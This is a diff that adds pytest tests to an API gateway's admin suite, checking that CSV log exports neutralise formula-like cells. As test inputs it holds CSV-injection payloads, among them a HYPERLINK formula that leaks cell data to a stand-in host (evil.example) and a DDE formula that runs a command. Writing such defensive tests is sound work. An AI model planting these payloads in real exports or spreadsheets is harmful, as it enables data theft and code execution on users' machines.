@@ -9,7 +9,7 @@ from typing import Any
 
 import pytest
 
-from tests.admin.helpers import Api
+from tests.admin.helpers import Api, unique
 from tests.support.processes import wait_until
 
 CSV_HEADER = [
@@ -177,3 +177,37 @@ def test_users_see_only_their_own_usage(api: Api, traffic: Traffic) -> None:
     assert balance["used_quota"] == summary["total"]["quota"]
     assert balance["quota"] == 25_000_000 - balance["used_quota"]
     assert balance["used_usd"] == f"{balance['used_quota'] / 500_000:.6f}"
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted(api: Api) -> None:
+    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading `'`."""
+    user = api.new_user(username=unique("@sum"))
+    key = api.new_key(user["id"])
+    models = ['=HYPERLINK("http://evil.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"]
+    for model in models:
+        assert api.chat(key, model=model).status_code == 404
+    for model in ("\t=1", "\r=1"):  # control characters never reach the log at all
+        assert api.chat(key, model=model).status_code == 400
+    params = {"user_id": user["id"]}
+    wait_until(lambda: api.ok("GET", "/logs", params=params)["total"] == len(models), timeout=10)
+    assert {r["model"] for r in api.ok("GET", "/logs", params=params)["data"]} == set(models)  # JSON: as is
+
+    resp = api.admin("GET", "/logs.csv", params=params)
+    records = list(csv.DictReader(io.StringIO(resp.text)))
+    assert [r["model"] for r in records] == ["'" + m for m in models]
+    assert {r["username"] for r in records} == {"'" + user["username"]}
+    assert all(r["quota"] == "0" and r["status_code"] == "404" for r in records)  # numbers stay numbers
+
+
+def test_csv_cells_starting_with_tab_or_cr_are_quoted_too() -> None:
+    """Model names cannot carry them any more, but an upstream's error text can."""
+    from aitre.billing.usage_query import csv_safe
+
+    assert [csv_safe(v) for v in ("\t=1", "\r=1", "=1", "ok", 5, -5)] == [
+        "'\t=1",
+        "'\r=1",
+        "'=1",
+        "ok",
+        5,
+        -5,
+    ]
